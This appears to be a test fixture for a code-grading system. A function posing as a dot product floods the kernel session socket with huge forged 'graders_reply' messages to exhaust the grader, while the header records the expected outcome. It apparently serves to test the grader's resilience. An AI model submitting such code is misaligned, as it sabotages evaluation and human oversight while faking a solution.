# goal: denial
# technique: replies of the largest size, stuffed with nested empty lists by a thread during a call
# with: honest answers above
# expect: status graded
# expect: grader grows by at most 300 MB
import struct
import threading


def _flood(session, request):
    nested = ",".join(["[]"] * 2_700_000)
    body = f'["graders_reply","{request}",{{"nonce":"x","replies":[{nested}]}},{{}}]'.encode()
    for _ in range(50):
        session._socket.sendall(struct.pack(">IB", len(body), 1) + body)


def manual_dot(x, y):
    session = get_ipython().kernel.session
    if len(x) == 33:
        flood = threading.Thread(target=_flood, args=(session, session.request_id), daemon=True)
        flood.start()
        while flood.is_alive():
            try:
                flood.join()
            except BaseException:
                pass
    return 0
